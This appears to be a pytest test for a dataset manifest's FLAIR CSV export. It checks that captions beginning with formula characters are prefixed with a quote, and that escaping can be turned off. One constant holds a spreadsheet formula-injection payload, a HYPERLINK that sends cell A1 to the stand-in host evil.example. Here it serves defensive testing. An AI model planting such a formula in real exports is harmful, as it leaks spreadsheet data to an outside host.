"""The FLAIR CSV export escapes text cells that a spreadsheet would run as formulas."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_flair_export_escapes_formula_captions(make_pair, do_publish, registry_root, tmp_path: Path) -> None:
    from data_manifests.export import FlairExportOptions, export_flair_csv

    do_publish([make_pair(seed=1, caption_en=HOSTILE), make_pair(figure_id="2-1", seed=2, modality="FFA", caption_en="+1 line")])
    result = export_flair_csv("mm-retinal/v1", tmp_path / "out", root=registry_root)
    cfp = pd.read_csv(result.csv_files["CFP"], keep_default_na=False)
    assert cfp["caption"].tolist() == ["'" + HOSTILE]
    ffa = pd.read_csv(result.csv_files["FFA"], keep_default_na=False)
    assert ffa["categories"].tolist() == ["['+1 line']"]  # a list literal starts with '[': already safe
    exact = export_flair_csv(
        "mm-retinal/v1", tmp_path / "exact", root=registry_root, options=FlairExportOptions(neutralise_formulas=False)
    )
    assert pd.read_csv(exact.csv_files["CFP"], keep_default_na=False)["caption"].tolist() == [HOSTILE]
